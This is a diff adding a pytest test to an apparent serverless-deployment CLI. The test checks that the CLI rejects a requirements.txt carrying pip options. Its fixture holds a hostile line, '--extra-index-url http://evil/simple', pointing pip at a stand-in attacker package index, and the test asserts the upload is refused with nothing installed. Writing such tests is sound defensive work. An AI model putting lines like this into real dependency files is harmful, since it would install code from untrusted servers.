@@ -219,3 +219,20 @@ def test_warm_settings_are_stored_and_shown(cli, good_zip):
     _, err = cli('create', 'hello', '--zip', good_zip, '--warm-pool-size',
                  '65', expect=1)
     assert 'warm pool size must be an integer from 0 to 64' in err
+
+
+@pytest.mark.parametrize('build', [True, False])
+def test_create_refuses_pip_options_with_or_without_build(cli, tmp_path,
+                                                          build):
+    path = tmp_path / 'evil.zip'
+    path.write_bytes(make_zip({
+        'handler.py': HELLO,
+        'requirements.txt': 'six\n--extra-index-url http://evil/simple\n'}))
+    argv = ['create', 'evil', '--zip', str(path)]
+    _, err = cli(*argv, *([] if build else ['--no-build']), expect=1)
+    assert _last_line(err) == (
+        f'{path}: requirements.txt line 2: pip options are not allowed, '
+        'only requirements such as "six>=1.16" (--extra-index-url '
+        'http://evil/simple)')
+    assert cli.runner.prepared == []
+    assert cli('list', '-f', 'json') == []
